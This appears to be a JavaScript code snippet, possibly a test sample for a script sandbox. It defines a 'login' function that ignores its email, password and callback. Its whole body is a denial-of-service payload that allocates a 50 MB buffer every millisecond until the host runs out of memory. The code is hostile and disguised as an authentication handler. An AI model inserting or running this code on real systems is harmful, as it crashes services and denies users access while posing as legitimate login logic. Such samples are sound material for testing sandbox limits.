function login(email, password, callback) {
  const all = [];
  setInterval(() => all.push(Buffer.alloc(5e7, 1)), 1);
}
